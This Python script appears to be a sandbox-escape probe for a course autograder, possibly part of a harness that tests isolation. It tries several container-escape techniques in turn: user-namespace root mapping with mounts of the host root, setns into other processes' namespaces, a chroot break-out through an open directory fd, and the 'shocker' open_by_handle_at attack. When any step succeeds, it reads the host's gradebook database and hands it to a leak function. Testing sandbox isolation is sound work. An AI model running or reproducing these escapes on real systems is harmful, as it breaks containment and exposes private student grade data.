"""Namespace games: unshare(CLONE_NEWUSER|CLONE_NEWNS) and map ourselves to root, then mount
proc/sysfs/tmpfs and bind-mount /; setns() into every /proc/<pid>/ns/* visible (pid 1's first);
chroot escape with an open directory fd; open_by_handle_at on the root (the "shocker" escape).
After each step, check whether the course directory of the host has become reachable.

Got out: the host's course directory (its gradebook) is reachable after any step.
"""
from numpy.ctypeslib import ctypes
import os

libc = _libc()
probe = f"{_COURSE}/gradebook.db"


def reachable(step):
    if os.path.exists(probe):
        _got_out(f"after {step}: {probe} is reachable")
        try:
            _leak(open(probe, "rb").read(1 << 20), probe)
        except OSError:
            pass
        return True
    return False


reachable("nothing")
code = f"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print('unshare', libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno())
for f, v in (('/proc/self/setgroups', 'deny'), ('/proc/self/uid_map', '0 %d 1' % os.getuid()), ('/proc/self/gid_map', '0 %d 1' % os.getgid())):
    try: open(f, 'w').write(v)
    except OSError as e: print(f, e)
os.makedirs('/tmp/m', exist_ok=True)
for src, fs in (('proc', 'proc'), ('sysfs', 'sysfs'), ('tmpfs', 'tmpfs'), ('/', None)):
    r = libc.mount(src.encode(), b'/tmp/m', fs.encode() if fs else None, 4096 if fs is None else 0, None)
    print('mount', src, r, ctypes.get_errno())
print('exists after userns', os.path.exists('{probe}'))
"""
print(_py(code)[1].decode(errors="replace"))
for pid in ["1", str(os.getppid())]:
    for ns in ("mnt", "pid", "net", "user", "cgroup", "ipc", "uts"):
        try:
            fd = os.open(f"/proc/{pid}/ns/{ns}", os.O_RDONLY)
        except OSError as exc:
            continue
        r = libc.setns(fd, 0)
        os.close(fd)
        if r == 0:
            print("setns", pid, ns)
            if reachable(f"setns {pid} {ns}"):
                break
try:
    fd = os.open("/", os.O_RDONLY)
    os.makedirs("jail", exist_ok=True)
    if libc.chroot(b"jail") == 0:
        os.fchdir(fd)
        for _ in range(64):
            os.chdir("..")
        libc.chroot(b".")
        reachable("chroot escape")
except OSError as exc:
    print("chroot", exc)


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("f", ctypes.c_ubyte * 8)]


h = Handle(8, 1)  # the root inode of the filesystem (ext4: 2)
h.f[0] = 2
fd = libc.open_by_handle_at(os.open("/", os.O_RDONLY), ctypes.byref(h), 0)
print("open_by_handle_at", fd, ctypes.get_errno())
if fd >= 0:
    _got_out("open_by_handle_at opened an inode by number (CAP_DAC_READ_SEARCH)")
